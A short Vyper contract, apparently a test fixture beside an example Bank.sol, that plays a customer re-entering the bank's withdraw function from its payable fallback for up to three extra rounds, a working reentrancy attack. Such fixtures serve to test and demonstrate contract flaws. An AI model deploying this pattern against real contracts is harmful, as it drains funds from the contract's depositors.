# pragma version ^0.4.0
"""The customer of examples/property/contracts/Bank.sol, who withdraws again while being paid."""

interface Bank:
    def deposit(): payable
    def withdraw(): nonpayable
    def credit(owner: address) -> uint256: view

bank: immutable(Bank)
rounds: public(uint256)


@deploy
def __init__(bank_: address):
    bank = Bank(bank_)


@external
@payable
def deposit():
    extcall bank.deposit(value=msg.value)


@external
def withdraw(again: uint256):
    self.rounds = again % 4
    extcall bank.withdraw()


@external
@payable
def __default__():
    if self.rounds > 0 and bank.address.balance >= staticcall bank.credit(self):
        self.rounds -= 1
        extcall bank.withdraw()
